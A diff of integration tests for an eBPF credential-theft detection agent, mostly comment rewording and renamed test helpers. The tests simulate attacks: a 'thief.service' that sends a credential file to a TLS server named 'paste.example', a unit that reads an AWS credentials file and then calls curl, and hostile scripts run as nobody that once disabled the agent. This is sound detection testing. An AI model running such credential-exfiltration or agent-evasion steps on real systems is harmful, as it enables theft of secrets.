@@ -1,5 +1,5 @@
-//! The agent on a node beside everything else: it keeps nothing from being unmounted, survives what
-//! an unprivileged user puts in its way, and reports truthfully when it was not there.
+//! The agent beside everything else on a node: it keeps no file system from being unmounted,
+//! survives hostile files of unprivileged users, and reports correctly when it was not running.
 
 use anyhow::{Context as _, Result, ensure};
 use lab::{
@@ -8,7 +8,7 @@ use lab::{
     server::TlsServer,
     wait_for,
     web::WebServer,
-    workload::{MemoryLimit, Unit, aws_credentials, sh},
+    workload::{MemoryLimit, TestUnit, aws_credentials, sh},
 };
 use serde_json::Value;
 use std::{
@@ -20,7 +20,7 @@ use std::{
     time::{Duration, Instant},
 };
 
-/// The five capabilities that the unit and the chart give.
+/// The five capabilities that the unit and the chart grant.
 const SHIPPED: [&str; 5] = [
     "bpf",
     "perfmon",
@@ -29,7 +29,7 @@ const SHIPPED: [&str; 5] = [
     "dac_read_search",
 ];
 
-/// Where a library of the host is, by its links.
+/// The path of a host library, with links resolved.
 fn library(name: &str) -> Result<PathBuf> {
     let output = Command::new("ldconfig").arg("-p").output()?;
     let text = String::from_utf8(output.stdout)?;
@@ -41,10 +41,10 @@ fn library(name: &str) -> Result<PathBuf> {
     Ok(fs::canonicalize(path.trim())?)
 }
 
-/// A file system of its own, unmounted when dropped, whatever happens.
-struct Mount(PathBuf);
+/// A separate file system, unmounted when dropped.
+struct TestMount(PathBuf);
 
-impl Mount {
+impl TestMount {
     fn tmpfs(at: &Path) -> Result<Self> {
         fs::create_dir_all(at)?;
         let status = Command::new("mount")
@@ -55,7 +55,7 @@ impl Mount {
         Ok(Self(at.to_owned()))
     }
 
-    /// Unmounts it at once, as a script does: no second attempt.
+    /// Unmounts it once, as a script does, without retrying.
     fn unmount(&self) -> Result<bool> {
         Ok(Command::new("umount")
             .arg(&self.0)
@@ -65,9 +65,9 @@ impl Mount {
     }
 }
 
-impl Drop for Mount {
+impl Drop for TestMount {
     fn drop(&mut self) {
-        // It may be gone already.
+        // It may be unmounted already.
         let _ = Command::new("umount")
             .arg("-l")
             .arg(&self.0)
@@ -76,7 +76,7 @@ impl Drop for Mount {
     }
 }
 
-/// A program of Python with the TLS libraries of a directory.
+/// A Python program that uses the TLS libraries of a directory.
 fn python_with(library: &Path, script: &str, arguments: &[&str]) -> Command {
     let mut command = Command::new("python3");
     command
@@ -86,14 +86,14 @@ fn python_with(library: &Path, script: &str, arguments: &[&str]) -> Command {
     command
 }
 
-/// Copies of the TLS libraries in a directory of their own.
+/// Copies of the TLS libraries in a separate directory.
 fn private_libraries(directory: &Path) -> Result<PathBuf> {
     let place = directory.join("libs");
     fs::create_dir_all(&place)?;
     for name in ["libssl.so.3", "libcrypto.so.3"] {
         fs::copy(library(name)?, place.join(name))?;
     }
-    // Readable for everyone, as installed libraries are.
+    // World-readable, like installed libraries.
     for path in [directory, &place] {
         fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
     }
@@ -115,21 +115,22 @@ fn present_with(library: &Path, server: &WebServer, secret: &str) -> Result<()> 
     Ok(())
 }
 
-/// Mounts and unmounts beside an agent with these capabilities; gives how many were busy.
+/// Mounts and unmounts beside an agent with these capabilities; returns how often the mount was
+/// busy.
 fn busy_mounts(capabilities: &[&str], rounds: usize) -> Result<usize> {
     let directory = tempfile::tempdir()?;
-    let _agent = Agent::start_able(directory.path(), &[], capabilities)?;
+    let _agent = Agent::start_with_capabilities(directory.path(), &[], capabilities)?;
     let (ssl, crypto) = (library("libssl.so.3")?, library("libcrypto.so.3")?);
     let mut busy = 0;
     for round in 0..rounds {
-        let mount = Mount::tmpfs(&directory.path().join("mount"))?;
+        let mount = TestMount::tmpfs(&directory.path().join("mount"))?;
         let inside = |name: &str| mount.0.join(name);
-        // Unpacked, renamed, read: as an image, a package or an environment is.
+        // Unpacked, renamed, read: like an image, a package or an environment.
         fs::copy(&ssl, inside("libssl.so.3.new"))?;
         fs::rename(inside("libssl.so.3.new"), inside("libssl.so.3"))?;
         fs::copy(&crypto, inside("libcrypto.so.3"))?;
         fs::read(inside("libssl.so.3"))?;
-        // And every other time used, by a process that is gone when it is unmounted.
+        // And used every other time, by a process that has exited when it is unmounted.
         if round % 2 == 1 {
             let script = "import ssl, ctypes; ctypes.CDLL('libssl.so.3')";
             let output = python_with(&mount.0, script, &[]).output()?;
@@ -158,7 +159,7 @@ fn no_mount_is_kept_busy_by_an_agent_with_the_capabilities_of_the_chart() -> Res
     Ok(())
 }
 
-/// A library is first opened by those who install it. It is inspected when somebody uses it.
+/// A library is first opened by whatever installs it. It is inspected when a process uses it.
 #[test]
 fn a_library_that_a_short_process_opened_first_is_attached_to() -> Result<()> {
     let directory = tempfile::tempdir()?;
@@ -189,8 +190,8 @@ fn a_library_that_a_short_process_opened_first_is_attached_to() -> Result<()> {
     Ok(())
 }
 
-/// Anyone can change a library in the memory of a process of one's own. That says nothing about the
-/// library of others.
+/// Any user can change a library in the memory of their own process. That says nothing about the
+/// library in other processes.
 #[test]
 fn a_process_that_changes_its_own_memory_hides_no_other() -> Result<()> {
     let directory = tempfile::tempdir()?;
@@ -198,7 +199,7 @@ fn a_process_that_changes_its_own_memory_hides_no_other() -> Result<()> {
     let server = WebServer::start("127.0.0.1")?;
     let place = private_libraries(directory.path())?;
     let copy = place.join("libssl.so.3");
-    // Everything is overwritten before anything of it is executable.
+    // Everything is overwritten before any of it is executable.
     let script = "import ctypes, os, sys
 libc = ctypes.CDLL(None)
 libc.mmap.restype = ctypes.c_void_p
@@ -212,7 +213,7 @@ ctypes.memset(at, 0x90, size)
 assert libc.mprotect(at, size, READ | EXECUTE) == 0
 print('changed', flush=True)
 sys.stdin.read()";
-    let mut changed = Running(
+    let mut changed = TestProcess(
         Command::new("setpriv")
             .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
             .args([python_of_the_system(), "-c", script])
@@ -232,7 +233,7 @@ sys.stdin.read()";
     })
 }
 
-/// An in-place change moves functions: probes at their old places would break the program.
+/// An in-place change moves functions: probes at their old offsets would break the program.
 #[test]
 fn a_library_that_is_overwritten_in_place_loses_its_probes() -> Result<()> {
     let directory = tempfile::tempdir()?;
@@ -280,7 +281,7 @@ fn excluded_programs_have_no_probes() -> Result<()> {
         "FAKE.not-excluded-00000000000",
     );
     let ssl = library("libssl.so.3")?;
-    let mut excluded = Running(
+    let mut excluded = TestProcess(
         Command::new("python3")
             .args([
                 "-c",
@@ -299,8 +300,8 @@ fn excluded_programs_have_no_probes() -> Result<()> {
         Ok(())
     };
     python_presents()?;
-    // Another program on the same library: it waits for what it is to do.
-    let mut curl = Running(
+    // Another program with the same library: it waits for a command.
+    let mut curl = TestProcess(
         Command::new("curl")
             .args(["-K", "-"])
             .stdin(Stdio::piped())
@@ -330,18 +331,18 @@ fn excluded_programs_have_no_probes() -> Result<()> {
         .output()?;
     let text = String::from_utf8_lossy(&doctor.stdout).into_owned();
     ensure!(text.contains("inspect.exclude"), "{text}");
-    // Not excluded any more, without a restart.
+    // No longer excluded, without a restart.
     fs::write(&config, "mode: alert\n")?;
     agent.await_loaded()?;
     agent.await_presented(hidden, Duration::from_secs(10), python_presents)
 }
 
-/// A program that is linked statically is excluded by itself: libraries stay as they are.
+/// A statically linked program is excluded on its own: libraries are not affected.
 #[test]
 fn excluding_a_static_program_changes_nothing_for_others() -> Result<()> {
     let directory = tempfile::tempdir()?;
     let config = directory.path().join("config.yaml");
-    // Whatever it is: no program begins it.
+    // Whatever it is, no program begins with it.
     let program =
         std::env::var("KEYTRAIL_GO_NEWEST").context("run `cargo xtask scenarios node`")?;
     fs::write(&config, format!("inspect: {{ exclude: [{program}] }}\n"))?;
@@ -358,15 +359,15 @@ fn excluding_a_static_program_changes_nothing_for_others() -> Result<()> {
     agent.await_presented(shown, Duration::from_secs(5), || Ok(()))
 }
 
-/// What a program says first.
-fn first_line(running: &mut Running) -> Result<String> {
+/// The first line that a program prints.
+fn first_line(running: &mut TestProcess) -> Result<String> {
     let mut line = String::new();
     let output = running.0.stdout.take().context("its output")?;
     std::io::BufRead::read_line(&mut std::io::BufReader::new(output), &mut line)?;
     Ok(line)
 }
 
-/// A Python that another user can run: the first on the `PATH` may be in a home.
+/// A Python that another user can run: the first on the `PATH` may be in a home directory.
 fn python_of_the_system() -> &'static str {
     const SYSTEM: &str = "/usr/bin/python3";
     if Path::new(SYSTEM).exists() {
@@ -376,21 +377,21 @@ fn python_of_the_system() -> &'static str {
     }
 }
 
-/// Ends a process of the test's own.
-struct Running(Child);
+/// Ends a process of the test.
+struct TestProcess(Child);
 
-impl Drop for Running {
+impl Drop for TestProcess {
     fn drop(&mut self) {
-        // It may have ended.
+        // It may have exited.
         let _ = self.0.kill();
         let _ = self.0.wait();
     }
 }
 
-/// Takes what is at a place to a server where it does not belong.
+/// Presents the credential at a place to a server where it does not belong.
 fn steal(place: &str, server: &TlsServer) -> Result<()> {
     let actor = binary()?.with_file_name("lab-actor");
-    Unit::new("thief.service")?.sh(
+    TestUnit::new("thief.service")?.sh(
         &format!(
             "{} --get open --path {place} --connect tls --to {} --name paste.example",
             actor.display(),
@@ -419,7 +420,8 @@ fn theft(agent: &Agent, directory: &Path, server: &TlsServer, number: u32) -> Re
     Ok(began.elapsed())
 }
 
-/// As user nobody, in a place of his own: each of these ended the agent, or switched a part of it off.
+/// Run as user nobody in a directory of its own: each of these once stopped the agent, or disabled
+/// part of it.
 const HOSTILE: &str = r#"import ctypes, mmap, os, struct, sys, time
 place = sys.argv[1]
 os.chdir(place)
@@ -477,7 +479,7 @@ fn hostile_files_of_nobody_beside_a_theft_and_across_a_restart() -> Result<()> {
         group: Some(&limit.path),
         ..Surroundings::default()
     };
-    let mut agent = Agent::start_as(directory.path(), &[], &surroundings)?;
+    let mut agent = Agent::start_in(directory.path(), &[], &surroundings)?;
     let server = TlsServer::start("127.0.0.1")?;
     let place = tempfile::tempdir_in("/var/tmp")?;
     let home = place.path().join("home/nobody");
@@ -489,7 +491,7 @@ fn hostile_files_of_nobody_beside_a_theft_and_across_a_restart() -> Result<()> {
         ),
         &[],
     )?;
-    let mut hostile = Running(
+    let mut hostile = TestProcess(
         Command::new("setpriv")
             .args([
                 "--reuid=65534",
@@ -513,8 +515,8 @@ fn hostile_files_of_nobody_beside_a_theft_and_across_a_restart() -> Result<()> {
     ensure!(found < Duration::from_secs(2), "found after {found:?}");
     ensure!(agent.get("/healthz")?.0 == 200);
     agent.stop()?;
-    // They are still there, and open and mapped, when it starts again.
-    let mut agent = Agent::start_as(directory.path(), &[], &surroundings)?;
+    // The files are still there, open and mapped, when it starts again.
+    let mut agent = Agent::start_in(directory.path(), &[], &surroundings)?;
     let found = theft(&agent, directory.path(), &server, 2)?;
     println!("after a restart: found after {found:?}");
     ensure!(found < Duration::from_secs(2), "found after {found:?}");
@@ -533,7 +535,7 @@ fn hostile_files_of_nobody_beside_a_theft_and_across_a_restart() -> Result<()> {
     Ok(())
 }
 
-/// Another client of SQLite opens and closes the ledger while the agent writes: nothing is lost.
+/// Another SQLite client opens and closes the ledger while the agent writes: nothing is lost.
 #[test]
 fn another_client_of_the_ledger_costs_no_record() -> Result<()> {
     let directory = tempfile::tempdir()?;
@@ -556,10 +558,10 @@ connection.close()",
         let place = key.display().to_string();
         sh(&format!("cat {place} >/dev/null"), &[])?;
         agent.await_used(&place)?;
-        // A client that opens it, and one of Keytrail's own, which the agent observes as well.
+        // One external client, and one of Keytrail's own, which the agent also observes.
         let output = Command::new("python3").args(["-c", &client]).output()?;
         ensure!(output.status.success(), "{output:?}");
-        // Somebody who has the file open while the agent looks what others have open.
+        // A process that has the file open while the agent lists open files.
         places.push(place);
     }
     let wal = fs::metadata(agent.state_dir.join("ledger.sqlite-wal"))
@@ -583,14 +585,14 @@ connection.close()",
     Ok(())
 }
 
-/// The same for a client that has the ledger open when the agent starts, as `sqlite3` in a terminal.
+/// As above, with a client such as `sqlite3` that has the ledger open when the agent starts.
 #[test]
 fn a_ledger_that_is_open_elsewhere_at_the_start() -> Result<()> {
     let directory = tempfile::tempdir()?;
     let mut agent = Agent::start(directory.path(), &[])?;
     let ledger = agent.state_dir.join("ledger.sqlite");
     agent.stop()?;
-    let mut held = Running(
+    let mut held = TestProcess(
         Command::new("python3")
             .args([
                 "-c",
@@ -633,13 +635,13 @@ sqlite3.connect(sys.argv[1]).execute('select 1 from credential').fetchone()",
     Ok(())
 }
 
-/// Whoever reads findings stops reading: that costs lines, which are counted, and nothing else.
+/// The reader of findings stops reading: that loses lines, which are counted, and nothing else.
 #[test]
 fn a_reader_of_findings_that_stops_reading() -> Result<()> {
     let directory = tempfile::tempdir()?;
     let (reader, writer) = std::io::pipe()?;
     let writer = File::from(OwnedFd::from(writer));
-    let mut agent = Agent::start_as(
+    let mut agent = Agent::start_in(
         directory.path(),
         &[],
         &Surroundings {
@@ -649,7 +651,7 @@ fn a_reader_of_findings_that_stops_reading() -> Result<()> {
     )?;
     drop(writer);
     let server = TlsServer::start("127.0.0.1")?;
-    // More findings than a pipe and the queue hold: each token is one.
+    // More findings than the pipe and the queue hold: each token produces one.
     let script = "import socket, sys
 host, port = sys.argv[1].split(':')
 for number in range(6000):
@@ -666,7 +668,7 @@ for number in range(6000):
         Ok((lost()? > 0.0).then_some(()))
     })
     .with_context(|| agent.log_text())?;
-    // Detection, ledger and metrics go on.
+    // Detection, ledger and metrics continue.
     let key = aws_credentials(
         directory.path(),
         "AKIAFAKESTOPPED00000",
@@ -720,7 +722,7 @@ fn gaps_of(agent: &Agent, kind: &str) -> Result<Vec<Value>> {
     Ok(of_kind(&answer))
 }
 
-/// Attempts to start that fail do not hide that nothing was running.
+/// Failed attempts to start do not hide that no agent was running.
 #[test]
 fn failed_starts_hide_no_downtime() -> Result<()> {
     let directory = tempfile::tempdir()?;
@@ -728,7 +730,7 @@ fn failed_starts_hide_no_downtime() -> Result<()> {
     let listen = agent.listen.to_string();
     agent.kill()?;
     let killed = jiff::Timestamp::now();
-    // Its port is another's now.
+    // Its port is in use.
     let taken = std::net::TcpListener::bind(&listen)?;
     for _ in 0..3 {
         let output = Command::new(binary()?)
@@ -774,19 +776,19 @@ fn failed_starts_hide_no_downtime() -> Result<()> {
     Ok(())
 }
 
-/// Others open files with the names and the inode numbers of the self-test's, all the time.
+/// Other processes keep opening files with the names and inode numbers of the self-test's files.
 #[test]
 fn starts_beside_files_with_the_same_inode_number() -> Result<()> {
     let directory = tempfile::tempdir()?;
-    // File systems of their own begin with the same numbers.
-    let state = Mount::tmpfs(&directory.path().join("agent"))?;
-    let others = Mount::tmpfs(&directory.path().join("others"))?;
+    // Separate file systems start with the same inode numbers.
+    let state = TestMount::tmpfs(&directory.path().join("agent"))?;
+    let others = TestMount::tmpfs(&directory.path().join("others"))?;
     for number in 0..40 {
         let folder = others.0.join(number.to_string());
         fs::create_dir(&folder)?;
         fs::write(folder.join(".netrc"), "machine a login b password FAKE")?;
     }
-    let _opener = Running(
+    let _opener = TestProcess(
         Command::new("python3")
             .args([
                 "-c",
@@ -806,7 +808,7 @@ while True:
     Ok(())
 }
 
-/// Two agents on one host, as during an upgrade by hand: neither fails, nor flags the other.
+/// Two agents on one host, as during a manual upgrade: neither fails, nor reports the other.
 #[test]
 fn a_second_agent_neither_fails_nor_flags_the_first() -> Result<()> {
     let directory = tempfile::tempdir()?;
@@ -821,8 +823,8 @@ fn a_second_agent_neither_fails_nor_flags_the_first() -> Result<()> {
         &"FAKE/two/".repeat(5)[..40],
     )?;
     let place = key.display().to_string();
-    let unit = Unit::new("reader.service")?;
-    // Read with a variable that points to it: an agent looks into the environment and the file.
+    let unit = TestUnit::new("reader.service")?;
+    // Read with a variable that points to it: an agent reads the environment and the file.
     unit.sh(
         "cat $AWS_SHARED_CREDENTIALS_FILE; curl -sSk https://127.0.0.1:1/ || true",
         &[
@@ -847,23 +849,23 @@ fn a_second_agent_neither_fails_nor_flags_the_first() -> Result<()> {
     Ok(())
 }
 
-/// A volume of a pod that was there before the agent, read by another pod: it is known by where the
-/// kubelet has it, whatever its name in the pod.
+/// A pod's volume older than the agent, read by another pod: it is recognised by its place in the
+/// kubelet's directory, whatever its path in the pod.
 #[test]
 fn a_secret_volume_older_than_the_agent() -> Result<()> {
     let directory = tempfile::tempdir()?;
     let uid = "0d1e2f30-1111-4222-8333-444455556666";
     let pods = KubeletDirectory::new(uid)?;
     let volume = pods.0.join("volumes/kubernetes.io~secret/app");
-    let mount = Mount::tmpfs(&volume)?;
+    let mount = TestMount::tmpfs(&volume)?;
     let edition = volume.join("..2026_11_26");
     fs::create_dir(&edition)?;
     fs::write(edition.join("blob"), "FAKE-older-than-the-agent-0001")?;
     std::os::unix::fs::symlink("..2026_11_26", volume.join("..data"))?;
-    // A process with the volume at a place that says nothing, as a container has it.
+    // A process with the volume at a path that reveals nothing, as in a container.
     let etc = directory.path().join("app");
     fs::create_dir(&etc)?;
-    let mut container = Running(
+    let mut container = TestProcess(
         Command::new("unshare")
             .args([
                 "--mount",
@@ -879,7 +881,7 @@ fn a_secret_volume_older_than_the_agent() -> Result<()> {
     );
     ensure!(first_line(&mut container)? == "there\n");
     let agent = Agent::start(directory.path(), &[])?;
-    // Found again in the background.
+    // Recovered in the background.
     let place = edition.join("blob").display().to_string();
     let normal = place.replace("..2026_11_26/", "");
     let mut stdin = container.0.stdin.take().context("its input")?;
@@ -903,7 +905,8 @@ fn a_secret_volume_older_than_the_agent() -> Result<()> {
     Ok(())
 }
 
-/// A pod's directory where the kubelet has them, removed when dropped with what was made for it.
+/// A pod's directory as the kubelet creates it, removed when dropped together with the parents
+/// created for it.
 struct KubeletDirectory(PathBuf);
 
 impl KubeletDirectory {
@@ -917,20 +920,20 @@ impl KubeletDirectory {
 impl Drop for KubeletDirectory {
     fn drop(&mut self) {
         let _ = fs::remove_dir_all(&self.0);
-        // Only what is empty: there may be a kubelet on this machine.
+        // Only if empty: this machine may have a kubelet.
         for above in self.0.ancestors().skip(1).take(2) {
             let _ = fs::remove_dir(above);
         }
     }
 }
 
-/// A process that has so many copies of a TLS library mapped, once the agent has attached to each.
+/// A process that maps this many copies of a TLS library, once the agent has attached to each.
 fn hold_libraries(
     agent: &Agent,
     directory: &Path,
     count: usize,
     limit: Duration,
-) -> Result<Running> {
+) -> Result<TestProcess> {
     let source = library("libssl.so.3")?;
     let paths: Vec<PathBuf> = (0..count)
         .map(|number| directory.join(format!("libssl-{number}.so")))
@@ -942,7 +945,7 @@ fn hold_libraries(
 for path in sys.argv[1:]:
     ctypes.CDLL(path)
 sys.stdin.read()";
-    let holder = Running(
+    let holder = TestProcess(
         Command::new("python3")
             .args(["-c", script])
             .args(&paths)
@@ -956,8 +959,8 @@ sys.stdin.read()";
     Ok(holder)
 }
 
-/// On kernels without multi-uprobe links a killed agent leaves its events in tracefs. They do not
-/// delay the next one, which deletes them.
+/// On kernels without multi-uprobe links a killed agent leaves events in tracefs. They do not delay
+/// the next agent, which deletes them.
 #[test]
 fn leftovers_of_a_killed_agent_do_not_delay_the_next() -> Result<()> {
     const FILES: usize = 40;
@@ -966,7 +969,7 @@ fn leftovers_of_a_killed_agent_do_not_delay_the_next() -> Result<()> {
         environment: &[("KEYTRAIL_SKIP_HOOKS", "multi,pmu")],
         ..Surroundings::default()
     };
-    let mut agent = Agent::start_as(directory.path(), &[], &surroundings)?;
+    let mut agent = Agent::start_in(directory.path(), &[], &surroundings)?;
     let _holder = hold_libraries(&agent, directory.path(), FILES, Duration::from_secs(120))?;
     let pid = agent.pid();
     agent.kill()?;
@@ -987,7 +990,7 @@ fn leftovers_of_a_killed_agent_do_not_delay_the_next() -> Result<()> {
     Ok(())
 }
 
-/// SIGTERM ends it within bounds, with many files attached to, and leaves nothing behind.
+/// SIGTERM ends it within a time limit, with many attached files, and nothing is left behind.
 #[test]
 fn an_agent_with_many_files_ends_in_time_and_leaves_nothing() -> Result<()> {
     const FILES: usize = 100;
